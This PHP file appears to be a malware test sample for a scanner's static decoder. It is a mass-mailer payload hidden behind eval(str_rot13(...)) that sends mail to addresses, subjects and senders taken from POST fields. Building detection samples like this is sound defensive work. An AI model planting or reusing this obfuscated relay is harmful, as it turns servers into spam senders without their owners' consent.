<?php
// Family: mailer/mass-form
// Style: inert mass-mail loop packed with str_rot13
// Trait: the unwrapped payload of tests/samples/malicious/mailer/layer-plain.php, decoded statically by the scanner
eval(str_rot13('$yvfg = rkcybqr("\\a", $_CBFG[\'rznvyf\']);
sbernpu ($yvfg nf $gb) {
	znvy(gevz($gb), $_CBFG[\'fhowrpg\'], $_CBFG[\'obql\'], "Sebz: " . $_CBFG[\'sebz\']);
}
'));
